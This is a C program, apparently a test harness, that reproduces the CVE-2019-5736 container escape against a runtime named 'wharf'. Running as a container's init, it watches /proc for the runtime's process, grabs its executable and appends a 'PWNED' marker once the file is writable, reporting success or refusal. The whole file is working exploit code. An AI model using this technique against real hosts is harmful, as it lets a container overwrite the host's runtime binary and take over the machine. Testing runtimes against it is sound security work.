/* exe-grabber: the CVE-2019-5736 attacker. Runs as a container's init and watches /proc for
 * a process whose executable is wharf's (its exe link names "wharf"): it opens that exe
 * (O_PATH), prints "grabbed LINK", then tries to open it for writing until the process has
 * exited (ETXTBSY until then) and append to it. Prints "wrote" when the write reached the
 * file, "refused open|write ERRNO" otherwise; then looks for the next one. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void attack(int pid) {
    char path[64], link[4096];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, link, sizeof link - 1);
    if (n < 0)
        return;
    link[n] = 0;
    if (!strstr(link, "wharf"))
        return;
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    printf("grabbed %s\n", link);
    fflush(stdout);
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    struct timespec pause = {0, 1000000};
    for (int i = 0; i < 60000; i++) { /* up to a minute */
        int w = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (w >= 0) {
            if (write(w, "PWNED", 5) == 5)
                printf("wrote\n");
            else
                printf("refused write %d\n", errno);
            close(w);
            break;
        }
        if (errno != ETXTBSY) {
            printf("refused open %d\n", errno);
            break;
        }
        nanosleep(&pause, NULL);
    }
    fflush(stdout);
    close(fd);
}

int main(void) {
    int self = getpid();
    for (;;) {
        DIR *d = opendir("/proc");
        if (!d)
            return 1;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid > 0 && pid != self)
                attack(pid);
        }
        closedir(d);
    }
}
